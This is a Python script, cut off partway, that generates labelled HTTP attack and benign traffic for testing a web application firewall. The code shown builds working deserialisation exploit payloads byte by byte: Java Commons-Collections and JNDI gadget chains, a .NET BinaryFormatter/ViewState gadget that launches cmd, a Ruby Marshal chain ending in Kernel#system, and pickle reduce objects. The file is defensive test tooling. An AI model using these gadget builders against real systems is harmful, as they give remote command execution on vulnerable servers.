#!/usr/bin/env python3
"""Held-out corpus "dialects": attack classes in the dialects of the technologies behind web
applications, and those technologies' legitimate traffic.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP requests in the
    JSON-lines shape described in /work/shared/corpora/README.md.

    "attacks" mode (expect "detect") writes attacks written for one engine, parser or shell
    each, with that dialect's own functions, comments, quoting, casts and side channels, placed
    where a request to an application built on that stack carries them (query, urlencoded or
    JSON body, cookie, header, URL path, multipart field or file, XML body):
      sqli    PostgreSQL, MySQL/MariaDB, MSSQL, Oracle, SQLite, ClickHouse, Snowflake, DB2,
              CockroachDB, Cassandra CQL, Spark/Hive SQL, BigQuery (error, boolean, time,
              UNION, stacked, out-of-band, file and command primitives of each engine)
      ssti    Jinja2, Twig, Freemarker, Velocity, Thymeleaf, Pebble, Handlebars, Mustache,
              lodash/underscore templates, ERB, Smarty, Mako, Tornado, Go templates, Razor,
              Liquid, Nunjucks, doT, EJS (incl. option pollution), Pug
      java    SpEL, OGNL, MVEL, JEXL, Java EL, Groovy, Nashorn; Java serialized streams
              (base64, hex, gzip+base64, raw), SnakeYAML tags, Jackson/Fastjson polymorphic
              types, XStream and XMLDecoder
      rce     shells (bash, sh, busybox, zsh, PowerShell incl. -EncodedCommand, cmd.exe, fish)
              with their quoting, globbing and variable tricks; Python and Ruby eval; Node
              (node-serialize `_$$ND_FUNC$$_`, funcster, vm escapes); XSLT extension functions
      php     PHP serialize() object injection (Laravel, Monolog, Guzzle gadgets), phar://
      generic deserialisation in other native formats: Python pickle (protocols 0, 2, 4),
              PyYAML tags, .NET BinaryFormatter / ViewState / Json.NET $type / XmlSerializer,
              Ruby Marshal and Psych YAML
      nosqli  MongoDB operators and server-side JS, CouchDB Mango and _users/_config,
              Elasticsearch query DSL, Groovy/MVEL scripts and Kibana Timelion, Neo4j Cypher,
              GraphQL-carried injections and batching
      ssrf    Redis RESP over gopher/dict/HTTP, Redis Lua via web consoles
      ldapi   LDAP filter injection (OpenLDAP, Active Directory matching rules, LAPS)
      xpathi  XPath 1.0/2.0 and XQuery (BaseX, eXist-db, MarkLogic) injection
      xxe     external entities, parameter entities and OOB DTDs, local-DTD error tricks,
              XInclude, SVG / DOCX / XLSX uploads, UTF-16 bodies
      lfi     path traversal for Linux, Windows (UNC, ADS, 8.3, drive paths), Java (`..;/`,
              WEB-INF, Spring Cloud Config), Node and Python (os.path.join absolute paths)

    "benign" mode (expect "pass") writes ordinary traffic of the same stacks: search forms,
    reporting dashboards with filter expressions (OData, ArcGIS `where`, SOQL, JQL, PromQL,
    LogQL), BI tools' structured query definitions (Metabase MBQL, Cube, Looker, Superset),
    Elasticsearch/OpenSearch queries incl. painless scripts, Mongo-backed APIs with operator
    filters (Parse, Strapi, Feathers, Atlas Data API), CouchDB Mango, LDAP directory admin
    UIs, GraphQL, CMS merge tags, config uploads (YAML with CloudFormation tags, plists, SVG
    with public DTDs, DOCX/XLSX), ViewState postbacks, application `$type`/`@type` JSON, and
    text with SQL/shell words (category "benign"); plus category "dev-content": whole SQL
    statements saved in SQL editors and sent to databases' own HTTP APIs, template sources
    saved in CMS editors, and code posted to forums, help desks and code review.

    Labelling rule for query languages: a structured filter or an expression fragment sent
    to the API that takes it is "benign"; a whole statement in a query language (SQL,
    Cypher, CQL, XQuery, PPL, SPL) or a whole template source is "dev-content".

Written blind
    This file was written without reading Palisade's rulesets (rules, sources, tests or test
    data) or the other corpus generators, and without running the WAF, so that it measures
    the WAF on traffic it was not tuned for.  Host names are example names, addresses are
    documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), loopback or the
    link-local metadata address as an attacker would write it; nothing is sent anywhere.

Run
    python3 scripts/corpus-dialects.py attacks > rulesets/tests/data/dialects-attacks.jsonl
    python3 scripts/corpus-dialects.py benign  > rulesets/tests/data/dialects-benign.jsonl
    (and to check the output:)
    python3 scripts/corpus-dialects.py validate rulesets/tests/data/dialects-*.jsonl
"""

import base64
import gzip
import io
import json
import os
import pickle
import random
import re
import struct
import subprocess
import sys
import zipfile
from urllib.parse import quote, quote_plus, urlencode, parse_qsl, urlsplit

SET = "dialects"
SEED = 0xD1A1EC75

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.67",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
]
TOOL_UAS = ["python-requests/2.32.3", "curl/8.7.1", "Go-http-client/1.1", "okhttp/4.12.0",
            "axios/1.7.2", "Java/17.0.11"]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.6", "fr-FR,fr;q=0.9,en;q=0.5",
         "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.7", "ja,en-US;q=0.8", "nl-NL,nl;q=0.9,en;q=0.8"]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"

R = random.Random(SEED)


def rtok(n, alphabet="abcdefghijklmnopqrstuvwxyz0123456789"):
    return "".join(R.choice(alphabet) for _ in range(n))


HEX = "0123456789abcdef"
B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def b64u(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def jwt(sub="u_4821", aud="api", alg="RS256"):
    head = b64u(json.dumps({"alg": alg, "typ": "JWT", "kid": rtok(8, HEX)}, separators=(",", ":")).encode())
    body = b64u(json.dumps({"sub": sub, "aud": aud, "iat": 1718000000 + R.randrange(10 ** 6),
                            "exp": 1719000000 + R.randrange(10 ** 6), "scope": "read write"},
                           separators=(",", ":")).encode())
    return "%s.%s.%s" % (head, body, rtok(86, B64URL))


# ============================================================================ stacks
# A stack is what an application of one technology looks like on the wire: its host, its
# session cookie and anti-CSRF header, and whether its clients are browsers or API clients.

def _c_django():
    return "csrftoken=%s; sessionid=%s" % (rtok(32, ALNUM), rtok(32))


def _c_rails():
    return "_shop_session=%s--%s" % (rtok(120, ALNUM + "%"), rtok(40, HEX))


def _c_laravel():
    return "XSRF-TOKEN=%s%%3D; laravel_session=%s%%3D" % (rtok(180, ALNUM), rtok(180, ALNUM))


def _c_php():
    return "PHPSESSID=%s" % rtok(26)


def _c_java():
    return "JSESSIONID=%s" % rtok(32, "0123456789ABCDEF")


def _c_aspnet():
    return "ASP.NET_SessionId=%s; .ASPXAUTH=%s" % (rtok(24), rtok(160, "0123456789ABCDEF"))


def _c_express():
    return "connect.sid=s%%3A%s.%s" % (rtok(32, ALNUM + "-_"), rtok(43, ALNUM))


def _c_flask():
    return "session=%s.%s.%s" % (b64u(b'{"_fresh":true,"_id":"' + rtok(16, HEX).encode() + b'"}'),
                                 rtok(6, B64URL), rtok(27, B64URL))


def _c_wp():
    return "wordpress_logged_in_%s=editor%%7C1719%s%%7C%s" % (rtok(32, HEX), rtok(6, "0123456789"), rtok(43, ALNUM))


def _c_apex():
    return "ORA_WWV_APP_100=ORA_WWV-%s" % rtok(24, ALNUM)


def _c_go():
    return "gsid=%s" % rtok(40, B64URL)


def _c_none():
    return None


STACKS = {
    # name: (hosts, cookie maker, csrf header, api client?)
    "django": (["shop.example.com", "portal.example.org"], _c_django, "X-CSRFToken", False),
    "rails": (["store.example.net", "app.example.com"], _c_rails, "X-CSRF-Token", False),
    "laravel": (["crm.example.com", "billing.example.org"], _c_laravel, "X-XSRF-TOKEN", False),
    "php": (["www.example.com", "intranet.example.net"], _c_php, None, False),
    "wp": (["blog.example.com", "news.example.org"], _c_wp, None, False),
    "spring": (["orders.example.com", "hr.example.net"], _c_java, "X-XSRF-TOKEN", False),
    "jee": (["erp.example.com", "claims.example.org"], _c_java, None, False),
    "apex": (["apex.example.com"], _c_apex, None, False),
    "aspnet": (["reports.example.com", "extranet.example.org"], _c_aspnet, None, False),
    "express": (["api.example.com", "dash.example.io"], _c_express, "X-CSRF-Token", False),
    "flask": (["tools.example.com", "lab.example.org"], _c_flask, "X-CSRFToken", False),
    "go": (["metrics.example.com", "edge.example.net"], _c_go, None, True),
    "api": (["api.example.com", "gateway.example.net"], _c_none, None, True),
    "data": (["analytics.example.com", "bi.example.org"], _c_java, None, False),
    "router": (["192.0.2.1", "nas.example.lan"], lambda: "sysauth=%s" % rtok(32, HEX), None, False),
}


def headers_for(stack, k, ctype=None, accept=None, extra=(), tool=None, cookie_extra=None,
                auth=None, referer_path=None):
    hosts, cmk, csrf, api = STACKS[stack]
    host = hosts[k % len(hosts)]
    h = [["Host", host]]
    if tool is None:
        tool = api and k % 2 == 0
    h.append(["User-Agent", TOOL_UAS[k % len(TOOL_UAS)] if tool else UAS[k % len(UAS)]])
    h.append(["Accept", accept or (ACCEPT_JSON if (api or ctype == "application/json") else ACCEPT_HTML)])
    if not tool:
        h.append(["Accept-Language", LANGS[k % len(LANGS)]])
    if api or auth:
        h.append(["Authorization", auth or "Bearer " + jwt()])
    cookie = cmk()
    if cookie_extra:
        cookie = (cookie + "; " + cookie_extra) if cookie else cookie_extra
    if cookie:
        h.append(["Cookie", cookie])
    if csrf and ctype and not tool:
        h.append([csrf, rtok(40, ALNUM)])
    if referer_path and not tool:
        h.append(["Referer", "https://%s%s" % (host, referer_path)])
    for e in extra:
        h.append(list(e))
    if ctype:
        h.append(["Content-Type", ctype])
    return h


def record(rid, category, expect, method, uri, headers, body=None, desc=None):
    rec = {"id": "%s/%s" % (SET, rid), "set": SET, "category": category, "expect": expect}
    if desc:
        rec["desc"] = desc
    rec.update({"method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers})
    if body is not None:
        if not any(n.lower() == "content-length" for n, _ in headers):
            headers.append(["Content-Length", str(len(body.encode("utf-8")))])
        rec["body"] = body
    return rec


def raw_record(rid, category, expect, raw, desc=None):
    rec = {"id": "%s/%s" % (SET, rid), "set": SET, "category": category, "expect": expect}
    if desc:
        rec["desc"] = desc
    rec["raw_b64"] = base64.b64encode(raw).decode()
    return rec


def raw_request(method, path, headers, body):
    head = "%s %s HTTP/1.1\r\n" % (method, path)
    hs = [list(h) for h in headers if h[0].lower() != "content-length"]
    hs.append(["Content-Length", str(len(body))])
    head += "".join("%s: %s\r\n" % (n, v) for n, v in hs) + "\r\n"
    return head.encode("latin-1") + body


# ---------------------------------------------------------------------------- encodings

def q(v, k=0):
    """Query-string form of a value, as browsers and tools send it (varies with k)."""
    if k % 3 == 0:
        return quote(v, safe="")
    if k % 3 == 1:
        return quote(v, safe="'(),*!:@$/")
    return quote_plus(v, safe="'()*,")


def form(pairs):
    return "&".join("%s=%s" % (quote_plus(a, safe="[]"), quote_plus(b, safe="*")) for a, b in pairs)


def qs(pairs, k=0):
    return "&".join("%s=%s" % (quote(a, safe="[]$"), q(b, k)) for a, b in pairs)


def jdump(o, k=0):
    return json.dumps(o, separators=(",", ":")) if k % 2 else json.dumps(o)


def _fname(name):
    """A file name as browsers write it into Content-Disposition (HTML form encoding)."""
    return name.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22")


def multipart(parts, boundary):
    """parts: list of (name, value, filename or None, content-type or None)."""
    out = []
    for name, value, filename, ctype in parts:
        out.append("--" + boundary)
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % _fname(filename)
        out.append(disp)
        if ctype:
            out.append("Content-Type: " + ctype)
        out.append("")
        out.append(value)
    out.append("--" + boundary + "--")
    out.append("")
    return "\r\n".join(out)


def multipart_bytes(parts, boundary):
    out = b""
    for name, value, filename, ctype in parts:
        out += b"--" + boundary.encode() + b"\r\n"
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % _fname(filename)
        out += disp.encode() + b"\r\n"
        if ctype:
            out += b"Content-Type: " + ctype.encode() + b"\r\n"
        out += b"\r\n" + (value if isinstance(value, bytes) else value.encode()) + b"\r\n"
    return out + b"--" + boundary.encode() + b"--\r\n"


BOUNDARIES = ["----WebKitFormBoundaryq3Xv7Lr0pPZ2sWbN", "---------------------------30142791751618307833",
              "----geckoformboundary8d1e6f0c2b3a", "----WebKitFormBoundaryA9fj2LkQ0oT7xYcE",
              "--------------------------d74496d66958873e"]


# ============================================================================ native formats
# --- Java Object Serialization Stream Protocol (enough of it to write real gadget graphs)

def _jutf(s):
    e = s.encode("utf-8")
    return struct.pack(">H", len(e)) + e


def jstr(s):
    return b"\x74" + _jutf(s)


JNULL = b"\x70"


def jdesc(name, suid, flags, fields, sup=JNULL):
    """TC_CLASSDESC. fields: (typecode, name, field class signature or None), in wire order
    (primitives first, then objects, each group sorted by name)."""
    b = b"\x72" + _jutf(name) + struct.pack(">q", suid) + bytes([flags]) + struct.pack(">H", len(fields))
    for code, fname, sig in fields:
        b += code.encode() + _jutf(fname)
        if sig:
            b += jstr(sig)
    return b + b"\x78" + sup


def jobj(desc, values=b"", annotation=None):
    b = b"\x73" + desc + values
    if annotation is not None:
        b += annotation + b"\x78"
    return b


def jarr(desc, items):
    return b"\x75" + desc + struct.pack(">i", len(items)) + b"".join(items)


def jclass(name):
    return b"\x76" + jdesc(name, 0, 0, [])


def jblock(data):
    return b"\x77" + bytes([len(data)]) + data


def jstream(content):
    return b"\xac\xed\x00\x05" + content


INTEGER_DESC = jdesc("java.lang.Integer", 1360826667806852920, 2, [("I", "value", None)],
                     jdesc("java.lang.Number", -8742448824652078965, 2, []))
OBJ_ARR = jdesc("[Ljava.lang.Object;", -8012369246846506644, 2, [])
CLS_ARR = jdesc("[Ljava.lang.Class;", -6118465897992725863, 2, [])
STR_ARR = jdesc("[Ljava.lang.String;", -5921575005990323385, 2, [])


def java_urldns(host):
    hashmap = jdesc("java.util.HashMap", 362498820763181265, 3, [("F", "loadFactor", None), ("I", "threshold", None)])
    url = jdesc("java.net.URL", -7627629688361524110, 3, [
        ("I", "hashCode", None), ("I", "port", None), ("L", "authority", "Ljava/lang/String;"),
        ("L", "file", "Ljava/lang/String;"), ("L", "host", "Ljava/lang/String;"),
        ("L", "protocol", "Ljava/lang/String;"), ("L", "ref", "Ljava/lang/String;")])
    key = jobj(url, struct.pack(">ii", -1, -1) + jstr(host) + jstr("") + jstr(host) + jstr("http") + JNULL,
               annotation=b"")
    body = struct.pack(">fi", 0.75, 12) + jblock(struct.pack(">ii", 16, 1)) + key + jstr("http://" + host + "/")
    return jstream(jobj(hashmap, body, annotation=b""))


def java_cc(cmd, variant=6):
    """Commons-Collections InvokerTransformer chain (CC5 / CC6 / CC7 shapes)."""
    tr = "Lorg/apache/commons/collections/Transformer;"
    inv = jdesc("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688, 2, [
        ("L", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
        ("L", "iParamTypes", "[Ljava/lang/Class;")])
    const = jdesc("org.apache.commons.collections.functors.ConstantTransformer", 6374440726369055124, 2,
                  [("L", "iConstant", "Ljava/lang/Object;")])
    chained = jdesc("org.apache.commons.collections.functors.ChainedTransformer", 3514945074733160196, 2,
                    [("L", "iTransformers", "[" + tr)])
    tr_arr = jdesc("[" + tr.replace("/", "."), -4803604734341277543, 2, [])
    steps = [
        jobj(const, jclass("java.lang.Runtime")),
        jobj(inv, jarr(OBJ_ARR, [jstr("getRuntime"), jarr(CLS_ARR, [])]) + jstr("getMethod")
             + jarr(CLS_ARR, [jclass("java.lang.String"), jclass("[Ljava.lang.Class;")])),
        jobj(inv, jarr(OBJ_ARR, [JNULL, jarr(OBJ_ARR, [])]) + jstr("invoke")
             + jarr(CLS_ARR, [jclass("java.lang.Object"), jclass("[Ljava.lang.Object;")])),
        jobj(inv, jarr(OBJ_ARR, [jstr(cmd)]) + jstr("exec") + jarr(CLS_ARR, [jclass("java.lang.String")])),
        jobj(const, jobj(INTEGER_DESC, struct.pack(">i", 1))),
    ]
    chain = jobj(chained, jarr(tr_arr, steps))
    lazy = jobj(jdesc("org.apache.commons.collections.map.LazyMap", 7990956402564206740, 3,
                      [("L", "factory", tr)]),
                chain, annotation=jobj(jdesc("java.util.HashMap", 362498820763181265, 3,
                                             [("F", "loadFactor", None), ("I", "threshold", None)]),
                                       struct.pack(">fi", 0.75, 12) + jblock(struct.pack(">ii", 16, 0)),
                                       annotation=b""))
    tied = jobj(jdesc("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205, 2,
                      [("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")]),
                jstr("foo") + lazy)
    if variant == 5:
        exc = jdesc("javax.management.BadAttributeValueExpException", -3105272988410493376, 2,
                    [("L", "val", "Ljava/lang/Object;")],
                    jdesc("java.lang.Exception", -3387516993124229948, 2, [],
                          jdesc("java.lang.Throwable", -3042686055658047285, 3, [
                              ("L", "cause", "Ljava/lang/Throwable;"), ("L", "detailMessage", "Ljava/lang/String;"),
                              ("[", "stackTrace", "[Ljava/lang/StackTraceElement;"),
                              ("L", "suppressedExceptions", "Ljava/util/List;")])))
        ste = jdesc("[Ljava.lang.StackTraceElement;", 2210030376544968472, 2, [])
        # Throwable's fields (cause, detailMessage, stackTrace, suppressedExceptions) and the
        # end of its writeObject block come first, then BadAttributeValueExpException.val.
        return jstream(b"\x73" + exc + JNULL + JNULL + jarr(ste, []) + JNULL + b"\x78" + tied)
    hashset = jdesc("java.util.HashSet", -5024744406713321676, 3, [])
    return jstream(jobj(hashset, jblock(struct.pack(">ifi", 16, 0.75, 1)) + tied, annotation=b""))


def java_spring_jndi(url):
    """A JdbcRowSetImpl-style JNDI lookup bean (the shape that C3P0 / rowset gadgets carry)."""
    d = jdesc("com.sun.rowset.JdbcRowSetImpl", -3591946023893483003, 2, [
        ("L", "dataSource", "Ljava/lang/String;"), ("L", "iMatchColumns", "Ljava/util/Vector;"),
        ("L", "strMatchColumns", "Ljava/util/Vector;")],
        jdesc("javax.sql.rowset.BaseRowSet", 4886719666485113312, 2, [
            ("Z", "escapeProcessing", None), ("I", "fetchDir", None), ("L", "dataSource", "Ljava/lang/String;"),
            ("L", "url", "Ljava/lang/String;")]))
    return jstream(jobj(d, b"\x01" + struct.pack(">i", 1000) + jstr(url) + JNULL + jstr(url) + JNULL + JNULL))


# --- .NET BinaryFormatter / ObjectStateFormatter

def _lps(s):
    e = s.encode("utf-8")
    n, out = len(e), b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            out += bytes([b])
            break
    return out + e


XAML_START = ('<?xml version="1.0" encoding="utf-16"?>\r\n'
              '<ObjectDataProvider MethodName="Start" IsInitialLoadEnabled="False" '
              'xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
              'xmlns:sd="clr-namespace:System.Diagnostics;assembly=System" '
              'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">\r\n'
              '  <ObjectDataProvider.ObjectInstance>\r\n    <sd:Process>\r\n      <sd:Process.StartInfo>\r\n'
              '        <sd:ProcessStartInfo Arguments="/c {ARGS}" StandardErrorEncoding="{x:Null}" '
              'StandardOutputEncoding="{x:Null}" UserName="" Password="{x:Null}" Domain="" '
              'LoadUserProfile="False" FileName="cmd" />\r\n      </sd:Process.StartInfo>\r\n'
              '    </sd:Process>\r\n  </ObjectDataProvider.ObjectInstance>\r\n</ObjectDataProvider>')


def dotnet_binaryformatter(args):
    """ysoserial.net TextFormattingRunProperties gadget: the XAML above in ForegroundBrush."""
    b = b"\x00" + struct.pack("<iiii", 1, -1, 1, 0)
    b += b"\x0c" + struct.pack("<i", 2) + _lps(
        "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
    b += b"\x05" + struct.pack("<i", 1) + _lps("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")
    b += struct.pack("<i", 1) + _lps("ForegroundBrush") + b"\x01" + struct.pack("<i", 2)
    b += b"\x06" + struct.pack("<i", 3) + _lps(XAML_START.replace("{ARGS}", args))
    return b + b"\x0b"


def viewstate_gadget(args, mac_len=20):
    inner = dotnet_binaryformatter(args)
    return b"\xff\x01\x32" + _7bit(len(inner)) + inner + bytes(R.randrange(256) for _ in range(mac_len))


def _7bit(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def viewstate_benign(texts, mac_len=20):
    """An ordinary WebForms page state: Pair(Pair(page hash, Pair(null, ArrayList of control
    states with IndexedString "Text" values)), null) + the MAC."""
    page = str(-R.randrange(10 ** 9, 2 * 10 ** 9)) if R.random() < 0.5 else str(R.randrange(10 ** 8, 2 * 10 ** 9))
    b = b"\xff\x01\x0f\x0f\x05" + _7bit(len(page)) + page.encode() + b"\x0f\x64\x16\x02\x02\x03\x0f\x64\x16"
    b += bytes([len(texts) * 2])
    for i, t in enumerate(texts):
        b += b"\x02" + bytes([i + 1]) + b"\x0f\x0f\x16\x02"
        b += (b"\x1e\x04Text" if i == 0 else b"\x1f\x00") + b"\x05" + _7bit(len(t.encode())) + t.encode()
        b += b"\x64\x64"
    b += b"\x64\x64"
    return b + bytes(R.randrange(256) for _ in range(mac_len))


def eventvalidation_benign(n):
    return b"\xff\x01\x1d\x00" + bytes([n]) + bytes(R.randrange(256) for _ in range(8 * n + 20))


# --- PHP serialize()

def php_s(v):
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return "b:%d;" % v
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode("utf-8")), v)
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_s(i) + php_s(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_s(a) + php_s(b) for a, b in v.items()))
    if isinstance(v, PhpObj):
        return 'O:%d:"%s":%d:{%s}' % (len(v.cls), v.cls, len(v.props),
                                      "".join(php_s(a) + php_s(b) for a, b in v.props))
    raise TypeError(v)


class PhpObj:
    def __init__(self, cls, props):
        self.cls, self.props = cls, props


def prot(n):
    return "\0*\0" + n


def priv(cls, n):
    return "\0%s\0%s" % (cls, n)


# --- Python pickle

class _Reduce:
    def __init__(self, f, a):
        self.f, self.a = f, a

    def __reduce__(self):
        return (self.f, self.a)


def pickle_call(f, args, protocol):
    # pickle.dumps only writes a reference to f (module and name); nothing is called here.
    return pickle.dumps(_Reduce(f, args), protocol=protocol)


def pickle_p2_object(module, name, state):
    """A protocol-2 pickle of an instance of module.name with a dict state (how sklearn and
    pandas objects look), written opcode by opcode."""
    out = b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\nq\x00)\x81q\x01}q\x02(" 
    memo = 3
    for k, v in state.items():
        kb = k.encode()
        out += b"X" + struct.pack("<I", len(kb)) + kb + b"q" + bytes([memo])
        memo += 1
        if isinstance(v, str):
            vb = v.encode()
            out += b"X" + struct.pack("<I", len(vb)) + vb + b"q" + bytes([memo])
            memo += 1
        elif isinstance(v, bool):
            out += b"\x88" if v else b"\x89"
        elif isinstance(v, int):
            out += b"K" + bytes([v]) if 0 <= v < 256 else b"J" + struct.pack("<i", v)
        elif isinstance(v, float):
            out += b"G" + struct.pack(">d", v)
        elif v is None:
            out += b"N"
    return out + b"ub."


# --- Ruby Marshal

def _rm_int(n):
    if n == 0:
        return b"\x00"
    if 0 < n < 123:
        return bytes([n + 5])
    if -124 < n < 0:
        return bytes([(n - 5) & 0xFF])
    out = b""
    x = n
    while x:
        out += bytes([x & 0xFF])
        x >>= 8
    return bytes([len(out)]) + out


def rm_sym(s):
    return b":" + _rm_int(len(s)) + s.encode()


def rm_str(s):
    e = s.encode()
    return b'I"' + _rm_int(len(e)) + e + b"\x06" + rm_sym("E") + b"T"


def rm_obj(cls, ivars):
    b = b"o" + rm_sym(cls) + _rm_int(len(ivars))
    for k, v in ivars:
        b += rm_sym(k) + v
    return b


def rm_class(name):
    return b"c" + _rm_int(len(name)) + name.encode()


def ruby_marshal_gadget(cmd):
    """The Gem::Requirement -> TarReader -> BufferedIO -> WriteAdapter(Kernel, :system) chain."""
    wa1 = rm_obj("Net::WriteAdapter", [("@socket", b"m" + _rm_int(6) + b"Kernel"), ("@method_id", rm_sym("system"))])
    rs = rm_obj("Gem::RequestSet", [("@sets", wa1), ("@git_set", rm_str(cmd))])
    wa2 = rm_obj("Net::WriteAdapter", [("@socket", rs), ("@method_id", rm_sym("resolve"))])
    entry = rm_obj("Gem::Package::TarReader::Entry", [("@read", _rm_int(0)), ("@header", rm_str("aaa"))])
    bio = rm_obj("Net::BufferedIO", [("@io", entry), ("@debug_output", wa2)])
    tar = rm_obj("Gem::Package::TarReader", [("@io", bio)])
    req = b"U" + rm_sym("Gem::Requirement") + b"[" + _rm_int(1) + tar
    return b"\x04\x08[" + _rm_int(3) + rm_class("Gem::SpecFetcher") + rm_class("Gem::Installer") + req


def ruby_marshal_benign(user_id, flash):
    """A plain Rails-era session hash (Marshal): strings and integers only."""
    pairs = [("session_id", rm_str(rtok(32, HEX))), ("user_id", _rm_int(user_id)),
             ("_csrf_token", rm_str(rtok(44, ALNUM))), ("flash", rm_str(flash))]
    b = b"\x04\x08{" + _rm_int(len(pairs))
    for k, v in pairs:
        b += rm_str(k) + (b"i" + v if k == "user_id" else v)
    return b


# --- Office documents (real ZIP containers)

def ooxml(kind, inject=None, compress=zipfile.ZIP_DEFLATED):
    """A minimal DOCX or XLSX; inject=(member, xml) replaces one member (the XXE carrier)."""
    files = {}
    if kind == "docx":
        files["[Content_Types].xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            '</Types>')
        files["_rels/.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
        files["word/document.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            '<w:p><w:r><w:t>Quarterly supplier review - Q2</w:t></w:r></w:p>'
            '<w:p><w:r><w:t>Attendees: procurement, finance, logistics.</w:t></w:r></w:p>'
            '</w:body></w:document>')
    else:
        files["[Content_Types].xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '</Types>')
        files["_rels/.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>')
        files["xl/workbook.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Inventory" sheetId="1" r:id="rId1"/></sheets></workbook>')
        files["xl/worksheets/sheet1.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>SKU</t></is></c><c r="B1" t="inlineStr"><is><t>Qty</t></is></c></row>'
            '<row r="2"><c r="A2" t="inlineStr"><is><t>WID-2231</t></is></c><c r="B2"><v>140</v></c></row>'
            '</sheetData></worksheet>')
    if inject:
        files[inject[0]] = inject[1]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for name, data in files.items():
            zi = zipfile.ZipInfo(name, date_time=(2024, 6, 3, 9, 41, 12))
            zi.compress_type = compress
            z.writestr(zi, data)
    return buf.getvalue()


# ============================================================================ placement
# A site is where an application of one stack takes a value: (kind, stack, path, param,
